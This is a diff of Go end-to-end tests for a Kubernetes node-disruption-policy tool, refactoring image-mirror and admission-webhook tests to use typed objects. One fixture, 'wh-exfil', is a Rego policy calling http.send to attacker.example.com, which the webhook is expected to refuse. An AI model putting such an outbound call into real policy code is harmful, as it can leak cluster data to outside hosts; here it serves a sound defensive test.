@@ -5,7 +5,9 @@ import (
 	"strings"
 	"testing"
 
+	configv1 "github.com/openshift/api/config/v1"
 	mcfgv1 "github.com/openshift/api/machineconfiguration/v1"
+	operatorv1alpha1 "github.com/openshift/api/operator/v1alpha1"
 	corev1 "k8s.io/api/core/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"sigs.k8s.io/controller-runtime/pkg/client"
@@ -107,7 +109,7 @@ spec:
 	}
 	t.Cleanup(func() { _, _ = kubectl(t, "delete", "imagedigestmirrorset", "preview-mirror", "--ignore-not-found") })
 	after := waitPool(t, "mirrors", func(p *mcfgv1.MachineConfigPool) bool { return p.Spec.Configuration.Name != before }).Spec.Configuration.Name
-	setCurrent(t, []string{"mirrors-a", "mirrors-b", "mirrors-c"}, after)
+	testkit.SetNodeConfig(t, k8s, after, "mirrors-a", "mirrors-b", "mirrors-c")
 
 	out, err = kubectl(t, "delete", "--dry-run=server", "imagedigestmirrorset", "preview-mirror")
 	printed(t, "deleting the IDMS", "Warning: deleting ImageDigestMirrorSet preview-mirror: pool mirrors, 3 nodes: Reload crio.service, drains 3 nodes, no reboot (policy default: registry registry.example.com/team removed)", out, err)
@@ -117,28 +119,24 @@ spec:
 
 	// A tag mirror may serve other content than the source: drain. An
 	// ImageContentSourcePolicy is a digest mirror, like an IDMS.
-	for _, tc := range []struct{ manifest, want string }{
-		{`apiVersion: config.openshift.io/v1
-kind: ImageTagMirrorSet
-metadata: {name: preview-tags}
-spec:
-  imageTagMirrors:
-  - {source: registry.example.com/tags, mirrors: [mirror.example.com/tags]}
-`, "Warning: creating ImageTagMirrorSet preview-tags: pool mirrors, 3 nodes: Reload crio.service, drains 3 nodes, no reboot (policy default: mirror mirror.example.com/tags of registry.example.com/tags added with pull-from-mirror tag-only)"},
-		{`apiVersion: operator.openshift.io/v1alpha1
-kind: ImageContentSourcePolicy
-metadata: {name: preview-icsp}
-spec:
-  repositoryDigestMirrors:
-  - {source: registry.example.com/legacy, mirrors: [mirror.example.com/legacy]}
-`, "Warning: creating ImageContentSourcePolicy preview-icsp: pool mirrors, 3 nodes: Reload crio.service, no drain, no reboot (policy default: only digest-only mirrors or search registries were added, or mirrors made digest-only)"},
+	for _, tc := range []struct {
+		obj  client.Object
+		want string
+	}{
+		{&configv1.ImageTagMirrorSet{ObjectMeta: metav1.ObjectMeta{Name: "preview-tags"}, Spec: configv1.ImageTagMirrorSetSpec{ImageTagMirrors: []configv1.ImageTagMirrors{
+			{Source: "registry.example.com/tags", Mirrors: []configv1.ImageMirror{"mirror.example.com/tags"}}}}},
+			"Warning: creating ImageTagMirrorSet preview-tags: pool mirrors, 3 nodes: Reload crio.service, drains 3 nodes, no reboot (policy default: mirror mirror.example.com/tags of registry.example.com/tags added with pull-from-mirror tag-only)"},
+		{&operatorv1alpha1.ImageContentSourcePolicy{ObjectMeta: metav1.ObjectMeta{Name: "preview-icsp"}, Spec: operatorv1alpha1.ImageContentSourcePolicySpec{RepositoryDigestMirrors: []operatorv1alpha1.RepositoryDigestMirrors{
+			{Source: "registry.example.com/legacy", Mirrors: []string{"mirror.example.com/legacy"}}}}},
+			"Warning: creating ImageContentSourcePolicy preview-icsp: pool mirrors, 3 nodes: Reload crio.service, no drain, no reboot (policy default: only digest-only mirrors or search registries were added, or mirrors made digest-only)"},
 	} {
-		out, err := kubectlFile(t, tc.manifest, "apply", "--dry-run=server")
+		out, err := kubectlFile(t, manifest(t, tc.obj), "apply", "--dry-run=server")
 		printed(t, "a dry-run create", tc.want, out, err)
 	}
 
-	// A mirror set registries.conf cannot hold is refused.
-	out, err = kubectlFile(t, strings.ReplaceAll(idms, "mirror.example.com/team", "registry.example.com/team"), "apply")
+	// A mirror set registries.conf cannot hold is refused: a source never
+	// to contact, mirrored by itself.
+	out, err = kubectlFile(t, strings.ReplaceAll(idms, "mirror.example.com/team]", "registry.example.com/team]\n    mirrorSourcePolicy: NeverContactSource"), "apply")
 	if err == nil || !strings.Contains(out, "is the source itself") {
 		t.Errorf("a self-mirror was not refused (%v):\n%s", err, out)
 	}
@@ -214,71 +212,52 @@ func TestMCOParityRefusalsAndLUKS(t *testing.T) {
 
 // Broken policies are refused at the door, with the line or the builtin.
 func TestPolicyWebhookRefusesBrokenPolicies(t *testing.T) {
-	for _, tc := range []struct{ name, manifest, want string }{
-		{"syntax", `apiVersion: ndp.dev/v1alpha1
-kind: NodeDisruptionPolicy
-metadata: {name: wh-syntax}
-spec:
-  rego: |
-    package ndp.policy.wh_syntax
+	broken := []struct{ name, policy, rego, regoTests, want string }{
+		{"syntax", "wh-syntax", `package ndp.policy.wh_syntax
 
-    claims contains {"change": c.id if {
-    	some c in input.changes
-    }
-`, `NodeDisruptionPolicy "wh-syntax" spec.rego:3:`},
-		{"http.send", `apiVersion: ndp.dev/v1alpha1
-kind: NodeDisruptionPolicy
-metadata: {name: wh-exfil}
-spec:
-  rego: |
-    package ndp.policy.wh_exfil
+claims contains {"change": c.id if {
+	some c in input.changes
+}
+`, "", `NodeDisruptionPolicy "wh-syntax" spec.rego:3:`},
+		{"http.send", "wh-exfil", `package ndp.policy.wh_exfil
 
-    claims contains {"change": c.id, "actions": [{"type": "None"}]} if {
-    	some c in input.changes
-    	http.send({"method": "GET", "url": "http://attacker.example.com"})
-    }
-`, "spec.rego:5:2: rego_type_error: builtin http.send is not allowed"},
-		{"net.lookup", `apiVersion: ndp.dev/v1alpha1
-kind: NodeDisruptionPolicy
-metadata: {name: wh-dns}
-spec:
-  rego: |
-    package ndp.policy.wh_dns
+claims contains {"change": c.id, "actions": [{"type": "None"}]} if {
+	some c in input.changes
+	http.send({"method": "GET", "url": "http://attacker.example.com"})
+}
+`, "", "spec.rego:5:2: rego_type_error: builtin http.send is not allowed"},
+		{"net.lookup", "wh-dns", `package ndp.policy.wh_dns
 
-    claims contains {"change": c.id, "actions": [{"type": "None"}]} if {
-    	some c in input.changes
-    	net.lookup_ip_addr("example.com")
-    }
-`, "builtin net.lookup_ip_addr is not allowed"},
-		{"failing regoTests", `apiVersion: ndp.dev/v1alpha1
-kind: NodeDisruptionPolicy
-metadata: {name: wh-tests}
-spec:
-  rego: |
-    package ndp.policy.wh_tests
+claims contains {"change": c.id, "actions": [{"type": "None"}]} if {
+	some c in input.changes
+	net.lookup_ip_addr("example.com")
+}
+`, "", "builtin net.lookup_ip_addr is not allowed"},
+		{"failing regoTests", "wh-tests", `package ndp.policy.wh_tests
 
-    claims contains {"change": c.id, "actions": [{"type": "None"}]} if {
-    	some c in input.changes
-    }
-  regoTests: |
-    package ndp.policy.wh_tests_test
+claims contains {"change": c.id, "actions": [{"type": "None"}]} if {
+	some c in input.changes
+}
+`, `package ndp.policy.wh_tests_test
 
-    import data.ndp.policy.wh_tests
+import data.ndp.policy.wh_tests
 
-    test_nothing_is_claimed if {
-    	count(wh_tests.claims) == 0 with input.changes as [{"id": "file:/etc/x", "kind": "file"}]
-    }
+test_nothing_is_claimed if {
+	count(wh_tests.claims) == 0 with input.changes as [{"id": "file:/etc/x", "kind": "file"}]
+}
 `, "test_nothing_is_claimed"},
-	} {
+	}
+	for _, tc := range broken {
 		t.Run(tc.name, func(t *testing.T) {
-			out, err := kubectlFile(t, tc.manifest, "apply")
+			p := newPolicy(tc.policy, v1alpha1.NodeDisruptionPolicySpec{Rego: tc.rego, RegoTests: tc.regoTests})
+			out, err := kubectlFile(t, manifest(t, p), "apply")
 			if err == nil || !strings.Contains(out, `admission webhook "nodedisruptionpolicies.validate.ndp.dev" denied the request`) || !strings.Contains(out, tc.want) {
 				t.Errorf("kubectl apply (%v):\n%s\nwant a denial containing %q", err, out, tc.want)
 			}
 		})
 	}
-	for _, name := range []string{"wh-syntax", "wh-exfil", "wh-dns", "wh-tests"} {
-		mustNotExist(t, &v1alpha1.NodeDisruptionPolicy{ObjectMeta: metav1.ObjectMeta{Name: name}})
+	for _, tc := range broken {
+		mustNotExist(t, newPolicy(tc.policy, v1alpha1.NodeDisruptionPolicySpec{}))
 	}
 }
 
@@ -334,14 +313,7 @@ func TestWebhookDownFailsOpenForPreviewsAndClosedForPolicies(t *testing.T) {
 	if err != nil || strings.Contains(out, "Warning: pool") || !strings.Contains(out, "created (server dry run)") {
 		t.Errorf("with the webhook down, a MachineConfig dry-run (%v):\n%s", err, out)
 	}
-	valid := `apiVersion: ndp.dev/v1alpha1
-kind: NodeDisruptionPolicy
-metadata: {name: wh-down}
-spec:
-  files:
-  - path: /etc/chrony.conf
-    actions: [{type: Restart, restart: {serviceName: chronyd.service}}]
-`
+	valid := manifest(t, newPolicy("wh-down", chronySpec()))
 	out, err = kubectlFile(t, valid, "apply")
 	if err == nil || !strings.Contains(out, `failed calling webhook "nodedisruptionpolicies.validate.ndp.dev"`) {
 		t.Errorf("with the webhook down, a NodeDisruptionPolicy (%v):\n%s", err, out)
